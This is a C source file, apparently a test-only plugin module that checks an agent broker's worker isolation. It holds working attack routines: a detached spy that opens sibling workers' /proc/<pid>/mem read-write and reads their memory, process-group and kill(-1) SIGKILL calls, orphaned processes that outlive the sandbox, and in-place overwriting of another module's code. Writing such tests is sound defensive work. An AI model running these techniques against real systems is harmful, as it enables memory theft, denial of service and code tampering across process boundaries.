/* SPDX-License-Identifier: MIT */
/* race: a test-only module that attacks other workers the way issue 10 finding 1 describes,
 * for tests/integration/worker-takeover.sh. Built twice (race.so, and victim.so with
 * RACE_NAME "victim"): one attacks while the other is restarted hundreds of times.
 *
 * race.do {action, target?, path?, from?} → one text block:
 *   spy        forks a spy (setsid + fork: it outlives its worker unless the sandbox stops it)
 *              that polls /proc/sys/kernel/ns_last_pid and opens /proc/<new pid>/mem
 *              read-write for every new process whose command line names module TARGET
 *              (default "victim"), reading 8 bytes of its first mapping through that
 *              descriptor; its counters live in memory shared with this worker
 *   report     "looped=0|1 named=N opened=N read=N spy=0|1": the spy's counters (named: new
 *              processes of TARGET it could see; opened: /proc/<pid>/mem opened read-write;
 *              read: bytes read through one), and whether it is alive
 *   orphan     starts a process named "aborphan" (setsid + fork) that sleeps; "orphan pid=N"
 *   kill_pgrp  kill(0, SIGKILL); kill_all: kill(-1, SIGKILL); "<action> rc=N errno=NAME"
 *              (only when the worker survives its own signal)
 *   exit       ends the worker (_exit), so that the host starts a new one
 *   tamper     copies the file FROM over the file PATH in place (O_WRONLY|O_TRUNC), as a
 *              module that changes another module's code would; "tamper rc=N errno=NAME"
 *   ping       "pong" */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <agentbroker/module.h>

#ifndef RACE_NAME
#define RACE_NAME "race" /* victim.so is this file built with RACE_NAME "victim" */
#endif
#define RACE_SPY_SECONDS 300 /* the spy gives up after this */
#define RACE_SCAN_MAX 32     /* new pids tried per poll */

static const char race_schema[] =
        "{\"type\":\"object\",\"properties\":{"
        "\"action\":{\"type\":\"string\",\"enum\":[\"spy\",\"report\",\"orphan\",\"kill_pgrp\",\"kill_all\","
        "\"exit\",\"tamper\",\"ping\"]},"
        "\"target\":{\"type\":\"string\",\"maxLength\":48},"
        "\"path\":{\"type\":\"string\",\"maxLength\":4096},"
        "\"from\":{\"type\":\"string\",\"maxLength\":4096}},"
        "\"required\":[\"action\"],\"additionalProperties\":false}";

struct spy_counters {
        volatile long loops, named, opened, read;
};

static struct spy_counters *counters;
static pid_t spy_pid = -1;

static const char *
errname(int e)
{
        const char *n = e ? strerrorname_np(e) : "0";
        return n ? n : "?";
}

/* Read a small file whole (NUL bytes kept); returns its length or -1. */
static ssize_t
slurp(const char *path, char *buf, size_t len)
{
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t n;

        if (fd < 0)
                return -1;
        n = read(fd, buf, len);
        close(fd);
        return n;
}

/* Does pid's command line say "--name TARGET"? */
static bool
names_target(long pid, const char *target)
{
        char path[64], cmd[1024], want[64];
        ssize_t n;
        int wl;

        snprintf(path, sizeof(path), "/proc/%ld/cmdline", pid);
        n = slurp(path, cmd, sizeof(cmd));
        wl = snprintf(want, sizeof(want), "--name%c%s", '\0', target);
        if (n <= 0 || wl <= 0)
                return false;
        return memmem(cmd, (size_t)n, want, (size_t)wl + 1) != NULL;
}

/* Try one new pid: open its memory read-write (the attack), then check whom it was. */
static void
spy_try(long pid, const char *target)
{
        char path[64], maps[256];
        unsigned long start = 0;
        unsigned char b[8];
        int fd;

        snprintf(path, sizeof(path), "/proc/%ld/mem", pid);
        fd = open(path, O_RDWR | O_CLOEXEC);
        if (!names_target(pid, target)) {
                if (fd >= 0)
                        close(fd);
                return;
        }
        counters->named++;
        if (fd < 0)
                return;
        counters->opened++;
        /* The descriptor stays usable after the victim turns non-dumpable: read through it. */
        usleep(20000);
        snprintf(path, sizeof(path), "/proc/%ld/maps", pid);
        if (slurp(path, maps, sizeof(maps) - 1) > 0 && sscanf(maps, "%lx-", &start) == 1 &&
            pread(fd, b, sizeof(b), (off_t)start) == (ssize_t)sizeof(b))
                counters->read += (long)sizeof(b);
        close(fd);
}

static void __attribute__((noreturn)) spy_main(const char *target)
{
        time_t end = time(NULL) + RACE_SPY_SECONDS;
        long last = -1;

        (void)prctl(PR_SET_NAME, "abspy", 0, 0, 0);
        while (time(NULL) < end) {
                char buf[32];
                ssize_t n = slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof(buf) - 1);
                long now;

                counters->loops++;
                if (n <= 0) {
                        usleep(1000);
                        continue;
                }
                buf[n] = '\0';
                now = strtol(buf, NULL, 10);
                if (last >= 0 && now != last)
                        for (long p = now; p > last && p > now - RACE_SCAN_MAX; p--)
                                if (p != getpid())
                                        spy_try(p, target);
                last = now;
                sched_yield();
        }
        _exit(0);
}

/* setsid + fork: a process that is no longer the worker's child nor in its session. Returns
 * the grandchild's pid (as seen here) or -errno. */
static pid_t
detach(void (*body)(const char *), const char *arg)
{
        int p[2];
        pid_t child, grand = -1;

        if (pipe(p) < 0)
                return -errno;
        child = fork();
        if (child < 0)
                return -errno;
        if (child == 0) {
                close(p[0]);
                (void)setsid();
                grand = fork();
                if (grand == 0) {
                        close(p[1]);
                        body(arg);
                        _exit(0);
                }
                (void)!write(p[1], &grand, sizeof(grand));
                _exit(0);
        }
        close(p[1]);
        if (read(p[0], &grand, sizeof(grand)) != (ssize_t)sizeof(grand))
                grand = -EIO;
        close(p[0]);
        (void)waitpid(child, NULL, 0);
        return grand;
}

static void
spy_body(const char *target)
{
        spy_main(target);
}

static void
orphan_body(const char *unused)
{
        (void)unused;
        (void)prctl(PR_SET_NAME, "aborphan", 0, 0, 0);
        for (;;)
                pause();
}

static int
tamper(const char *path, const char *from)
{
        char buf[65536];
        int in = open(from, O_RDONLY | O_CLOEXEC), out;
        ssize_t n;

        if (in < 0)
                return -1;
        out = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (out < 0) {
                int e = errno;
                close(in);
                errno = e;
                return -1;
        }
        while ((n = read(in, buf, sizeof(buf))) > 0)
                if (write(out, buf, (size_t)n) != n) {
                        n = -1;
                        break;
                }
        close(in);
        close(out);
        return n < 0 ? -1 : 0;
}

static int
race_do(struct abm_call *call, struct abm_error *err)
{
        const struct abm_json *args = abm_call_args(call);
        const char *action = NULL, *target = "victim", *path = NULL, *from = NULL;
        int rc;

        if (abm_json_get_string(args, "action", &action) < 0)
                return abm_error_set(err, -EINVAL, "action is required");
        (void)abm_json_get_string(args, "target", &target);
        (void)abm_json_get_string(args, "path", &path);
        (void)abm_json_get_string(args, "from", &from);

        if (strcmp(action, "spy") == 0) {
                if (!counters) {
                        void *m = mmap(NULL, sizeof(*counters), PROT_READ | PROT_WRITE,
                                       MAP_SHARED | MAP_ANONYMOUS, -1, 0);
                        if (m == MAP_FAILED)
                                return abm_error_set(err, -errno, "mmap: %s", strerror(errno));
                        counters = m;
                }
                spy_pid = detach(spy_body, target);
                if (spy_pid < 0)
                        return abm_error_set(err, spy_pid, "fork: %s", strerror(-spy_pid));
                return abm_call_textf(call, "spy pid=%d", (int)spy_pid);
        }
        if (strcmp(action, "report") == 0) {
                if (!counters)
                        return abm_error_set(err, -ENOENT, "no spy was started");
                return abm_call_textf(call, "looped=%ld named=%ld opened=%ld read=%ld spy=%d",
                                      counters->loops > 0 ? 1L : 0L, counters->named, counters->opened,
                                      counters->read, spy_pid > 0 && kill(spy_pid, 0) == 0 ? 1 : 0);
        }
        if (strcmp(action, "orphan") == 0) {
                pid_t p = detach(orphan_body, NULL);

                if (p < 0)
                        return abm_error_set(err, p, "fork: %s", strerror(-p));
                return abm_call_textf(call, "orphan pid=%d", (int)p);
        }
        if (strcmp(action, "kill_pgrp") == 0 || strcmp(action, "kill_all") == 0) {
                rc = kill(strcmp(action, "kill_pgrp") == 0 ? 0 : -1, SIGKILL);
                return abm_call_textf(call, "%s rc=%d errno=%s", action, rc, errname(rc < 0 ? errno : 0));
        }
        if (strcmp(action, "exit") == 0)
                _exit(3);
        if (strcmp(action, "tamper") == 0) {
                if (!path || !from)
                        return abm_error_set(err, -EINVAL, "path and from are required");
                rc = tamper(path, from);
                return abm_call_textf(call, "tamper rc=%d errno=%s", rc, errname(rc < 0 ? errno : 0));
        }
        return abm_call_textf(call, "pong");
}

static const struct abm_tool race_tools[] = {
        {
                .name = "do",
                .description =
                        "Test only: attacks sibling workers (issue 10 finding 1) and reports what worked.",
                .input_schema = race_schema,
                .call = race_do,
        },
};

AB_MODULE_EXPORT const struct abm_module agentbroker_module = {
        .type = ABM_MODULE_TYPE,
        .abi_version = ABM_ABI_VERSION,
        .name = RACE_NAME,
        .version = "test",
        .tools = race_tools,
        .n_tools = 1,
};
